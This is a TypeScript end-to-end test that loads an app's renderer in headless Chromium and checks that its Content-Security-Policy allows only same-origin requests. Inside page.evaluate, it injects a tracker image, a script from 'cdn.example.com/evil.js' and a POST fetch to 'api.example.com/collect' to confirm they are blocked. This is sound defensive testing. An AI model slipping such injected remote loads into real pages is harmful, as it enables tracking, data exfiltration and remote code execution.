// The renderer loads no remote content (issue 7 §5), checked in a real headless Chromium against
// the browser shell: the renderer is built from the current sources (vite, into a temp dir), every
// request the page makes while it starts and lists the models goes to the shell's own origin (or
// data:/blob:), and the Content-Security-Policy really blocks remote content injected at run time
// (an <img>, a fetch, a <script>): the browser reports CSP violations and no request leaves.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { Browser } from 'puppeteer-core';
import { App } from '../../src-main/host/app.js';
import { startBrowserShell, type BrowserShell } from '../../src-main/shells/browser/server.js';
import { launchChromium } from '../e2e/chromium.js';
import { fixtureModels, repoRoot, tempDir, useTempHome } from './helpers.js';

test('the renderer in Chromium: only same-origin requests; CSP blocks remote content', { timeout: 240_000 }, async (t) => {
  const home = useTempHome();
  fs.cpSync(path.join(fixtureModels, 'identity-waveform'), path.join(home, 'models', 'identity-waveform'), { recursive: true });
  const tmp = tempDir('stemdeck-renderer-net-');
  const rendererDir = path.join(tmp, 'renderer');
  const { build } = await import('vite');
  await build({ configFile: path.join(repoRoot, 'vite.renderer.config.ts'), build: { outDir: rendererDir, emptyOutDir: true }, logLevel: 'error' });
  const app = new App({ shell: 'browser' });
  let shell: BrowserShell | null = null;
  let browser: Browser | null = null;
  try {
    await app.start();
    shell = await startBrowserShell({ app, rendererDir, port: 0 });
    browser = await launchChromium();
    const page = await browser.newPage();
    const requests: string[] = [];
    const failed: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    page.on('requestfailed', (r) => failed.push(`${r.url()} ${r.failure()?.errorText ?? ''}`));
    const served: string[] = [];
    page.on('requestfinished', (r) => served.push(r.url()));
    const doc = await page.goto(shell.url, { waitUntil: 'networkidle0', timeout: 60_000 });
    assert.ok(doc);
    const csp = doc.headers()['content-security-policy'] ?? '';
    assert.match(csp, /default-src 'self'/, 'the page is served with its CSP');
    await page.waitForSelector('select[aria-label="Separation model"] option', { timeout: 30_000 }).catch(() => undefined);
    const ownLoad = [...requests];
    // Try to pull remote content in at run time, as an injected string or a compromised dependency would.
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
      const img = document.createElement('img');
      img.src = 'https://example.com/tracker.png';
      document.body.appendChild(img);
      const s = document.createElement('script');
      s.src = 'https://cdn.example.com/evil.js';
      document.head.appendChild(s);
      const style = document.createElement('link');
      style.rel = 'stylesheet';
      style.href = 'https://fonts.example.com/x.css';
      document.head.appendChild(style);
      try {
        await fetch('https://api.example.com/collect', { method: 'POST', body: 'x' });
      } catch {
        /* blocked */
      }
      try {
        new WebSocket('wss://ws.example.com/');
      } catch {
        /* blocked */
      }
      await new Promise((r) => setTimeout(r, 500));
      return seen;
    });
    const origin = shell.origin;
    const local = (u: string): boolean => u.startsWith(`${origin}/`) || u.startsWith('data:') || u.startsWith('blob:') || u.startsWith(origin.replace('http', 'ws'));
    t.diagnostic(`${ownLoad.length} requests while loading, ${violations.length} CSP violations reported; failed: ${failed.join(' | ')}`);
    assert.deepEqual(ownLoad.filter((u) => !local(u)), [], 'the page itself requests nothing outside the shell origin');
    // The injected remote URLs were blocked by the browser (never completed).
    assert.deepEqual(served.filter((u) => !local(u)), [], 'no remote request completed');
    for (const u of requests.filter((x) => !local(x)))
      assert.ok(failed.some((f) => f.startsWith(u)), `${u} was blocked: ${failed.join(' | ')}`);
    for (const kind of ['img-src', 'script-src', 'style-src', 'connect-src'])
      assert.ok(violations.some((v) => v.startsWith(kind)), `CSP blocked ${kind}: ${violations.join(' | ')}`);
    assert.ok(ownLoad.length > 2, 'the page did load its own assets');
  } finally {
    await browser?.close().catch(() => undefined);
    await shell?.close().catch(() => undefined);
    await app.stop().catch(() => undefined);
    fs.rmSync(tmp, { recursive: true, force: true });
    fs.rmSync(home, { recursive: true, force: true });
  }
});
